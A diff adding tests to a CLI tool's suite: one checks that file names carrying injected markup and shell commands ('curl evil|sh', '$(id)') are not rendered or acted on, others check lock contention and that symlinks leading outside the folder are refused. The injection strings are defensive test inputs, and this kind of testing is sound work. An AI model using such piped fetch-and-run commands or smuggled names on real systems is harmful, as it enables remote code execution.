@@ -102,6 +102,17 @@ describe('the list of files', () => {
     },
   )
 
+  it('makes no site of what could be none: its name would become mark-up and commands of the page', () => {
+    const names = ['x` <img src=a>; curl evil|sh;`', '$(id)', 'gone by', 'gone']
+    const files = Object.fromEntries(names.map((name) => [`out/${name}/remove.txt`, 'delete x\n']))
+    const list = Object.fromEntries(names.map((name) => [`${name}/remove.txt`, digest('delete x\n')]))
+    const cwd = folderWithPlan({ ...files, [`out/${listName}`]: JSON.stringify(list) })
+    expect(natplan(generate, { cwd, env }).status).toBe(0)
+    const page = readFileSync(join(cwd, 'out', 'README.md'), 'utf8')
+    expect(page.match(/^- .* has left/gm)).toEqual(['- gone has left'])
+    expect(names.filter((name) => existsSync(join(cwd, 'out', name)))).toEqual(['gone'])
+  })
+
   it('removes no file that the command reads', () => {
     const cwd = folderWithPlan({ [listName]: JSON.stringify({ 'natplan.yaml': digest(acceptance) }) })
     const { status, stderr } = natplan(['generate', '-o', '.'], { cwd, env })
@@ -329,6 +340,15 @@ describe('two runs at once', () => {
     expect(existsSync(join(cwd, busy))).toBe(false)
   })
 
+  it('wait no longer than that where a left claim cannot be taken away', () => {
+    const cwd = folderWithPlan({ [busy]: '', [`${busy}-left/x`]: '' })
+    utimesSync(join(cwd, busy), 1, 1)
+    const { status, stderr } = natplan(['plan', '--save'], { cwd })
+    expect({ status, stderr }).toMatchObject({ status: 2, stderr: expect.stringContaining('FILE_IN_USE') })
+    rmSync(join(cwd, busy))
+    expect(natplan(['plan', '--save'], { cwd }).status).toBe(0)
+  })
+
   it.each([
     ['empty', '', 5],
     ['of another machine', '{"place":"elsewhere","process":1,"token":"x"}', 3700],
@@ -338,6 +358,49 @@ describe('two runs at once', () => {
     utimesSync(join(cwd, busy), then, then)
     expect(natplan(['plan', '--save'], { cwd }).status).toBe(0)
     expect(existsSync(join(cwd, busy))).toBe(false)
+  })
+})
+
+describe('a link that leads out of its folder', () => {
+  const secret = 'token-of-somebody-else'
+  const list = '10.0.0.0/8\n10.1.0.0/16\nbad\n'
+  const inHere = (target: string, name: string) => {
+    const cwd = temporaryFolder({ 'here/list.txt': list, 'here/natplan.yaml': acceptance, secret })
+    natplan(['plan', '--save'], { cwd: join(cwd, 'here') })
+    mkdirSync(join(cwd, 'here', 'inner'))
+    for (const file of ['natplan.yaml', 'natplan.lock.yaml']) {
+      for (const folder of ['.', 'here/inner'])
+        writeFileSync(join(cwd, folder, file), readFileSync(join(cwd, 'here', file)))
+    }
+    writeFileSync(join(cwd, 'here', 'natplan.yaml'), acceptance.replace('10.0.1.0/24', '10.0.2.0/24'))
+    rmSync(join(cwd, 'here', name), { force: true })
+    symlinkSync(target, join(cwd, 'here', name))
+    return join(cwd, 'here')
+  }
+
+  it.each([
+    ['the plan', '../secret', 'natplan.yaml', ['plan']],
+    ['the lock', '../secret', 'natplan.lock.yaml', ['plan']],
+    ['the lock of another plan', '../natplan.lock.yaml', 'natplan.lock.yaml', ['plan', '--save']],
+    ['a result', '../secret', 'link', ['overlaps', 'list.txt', '--out', 'link']],
+    ['a list of bad lines', '../secret', 'link', ['overlaps', 'list.txt', '--bad-lines', 'link']],
+    ['a device', '/dev/full', 'link', ['overlaps', 'list.txt', '--out', 'link']],
+  ])('is not followed: %s', (_, target, name, args) => {
+    const cwd = inHere(target, name)
+    const before = readFileSync(join(cwd, '..', 'natplan.lock.yaml'), 'utf8')
+    const { status, stdout, stderr } = natplan(args, { cwd })
+    expect({ status, stderr }).toMatchObject({ status: 2, stderr: expect.stringContaining(`FILE_IS_LINK ${name} is`) })
+    expect(stdout + stderr).not.toContain(secret)
+    expect(readFileSync(join(cwd, '..', 'secret'), 'utf8')).toBe(secret)
+    expect(readFileSync(join(cwd, '..', 'natplan.lock.yaml'), 'utf8')).toBe(before)
+  })
+
+  it.each([
+    ['the plan', 'inner/natplan.yaml', 'natplan.yaml', ['plan']],
+    ['the lock', 'inner/natplan.lock.yaml', 'natplan.lock.yaml', ['plan', '--save']],
+    ['a result', 'inner/result', 'link', ['overlaps', 'list.txt', '--out', 'link']],
+  ])('is another than one that stays there: %s', (_, target, name, args) => {
+    expect(natplan(args, { cwd: inHere(target, name) })).toMatchObject({ status: 0 })
   })
 })
 
